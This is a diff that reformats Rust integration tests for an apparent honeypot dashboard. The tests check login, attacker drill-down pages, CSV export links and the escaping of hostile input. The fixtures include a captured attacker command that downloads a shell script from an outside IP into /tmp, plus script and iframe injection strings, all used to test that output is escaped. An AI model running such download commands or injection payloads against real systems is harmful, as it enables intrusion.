@@ -207,7 +207,13 @@ fn login_cookie(a: std::net::SocketAddr) -> String {
     let nonce = c.trim_start_matches("drosera_login=").split(';').next().unwrap().to_string();
     let ct = ("Content-Type", "application/x-www-form-urlencoded");
     let cookie = format!("drosera_login={nonce}");
-    let r = http(a, "POST", "/login", &[ct, ("Cookie", &cookie)], &format!("csrf={nonce}&username=admin&password=correct+horse"));
+    let r = http(
+        a,
+        "POST",
+        "/login",
+        &[ct, ("Cookie", &cookie)],
+        &format!("csrf={nonce}&username=admin&password=correct+horse"),
+    );
     assert_eq!(r.status, 303);
     let sc = r.cookies().into_iter().find(|c| c.starts_with("drosera_session=")).unwrap().to_string();
     sc.split(';').next().unwrap().to_string()
@@ -242,7 +248,14 @@ fn drill_down_pages_json_and_csv_over_http() {
     assert!(r.body.contains(r#"<td id="attempts">12</td>"#), "{}", r.body);
     assert!(r.body.contains(r#"href="/session/s1/111""#));
     assert!(r.body.contains("xc3511"));
-    assert!(r.body.contains(&format!("/api/attacker?addr=8.8.8.8&amp;{}&amp;format=csv&amp;table=credentials", RANGE.replace('&', "&amp;"))), "{}", r.body);
+    assert!(
+        r.body.contains(&format!(
+            "/api/attacker?addr=8.8.8.8&amp;{}&amp;format=csv&amp;table=credentials",
+            RANGE.replace('&', "&amp;")
+        )),
+        "{}",
+        r.body
+    );
     let r = http(a, "GET", &format!("/attackers?{RANGE}"), &auth, "");
     assert!(r.body.contains(r#"href="/attacker/8.8.8.8""#));
     assert!(r.body.contains(r#"href="/attacker/2a00%3A1450%3A4001%3A%3A1""#), "IPv6 linked, encoded");
@@ -255,14 +268,22 @@ fn drill_down_pages_json_and_csv_over_http() {
     assert_eq!(http(a, "GET", "/attacker/192.0.2.1", &auth, "").status, 404);
 
     // Hostile bytes are escaped on every page and in the CSV.
-    for p in [format!("/attacker/{HOSTILE_IP}?{RANGE}"), "/session/s3/7".into(), "/session/s3/8".into(), "/session/s3/9".into()]
-    {
+    for p in [
+        format!("/attacker/{HOSTILE_IP}?{RANGE}"),
+        "/session/s3/7".into(),
+        "/session/s3/8".into(),
+        "/session/s3/9".into(),
+    ] {
         let r = http(a, "GET", &p, &auth, "");
         assert_eq!(r.status, 200, "{p}");
         no_raw_markup(&p, &r.body);
     }
     let r = http(a, "GET", "/session/s3/7", &auth, "");
-    assert!(r.body.contains(r#"id="transcript""#) && r.body.contains("$ cd /tmp; wget http://198.51.100.9/m.sh"), "{}", r.body);
+    assert!(
+        r.body.contains(r#"id="transcript""#) && r.body.contains("$ cd /tmp; wget http://198.51.100.9/m.sh"),
+        "{}",
+        r.body
+    );
     assert!(r.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
     let r = http(a, "GET", "/session/s3/8", &auth, "");
     assert!(r.body.contains("x-evil: &lt;iframe src=//e&gt;"), "HTTP headers shown: {}", r.body);
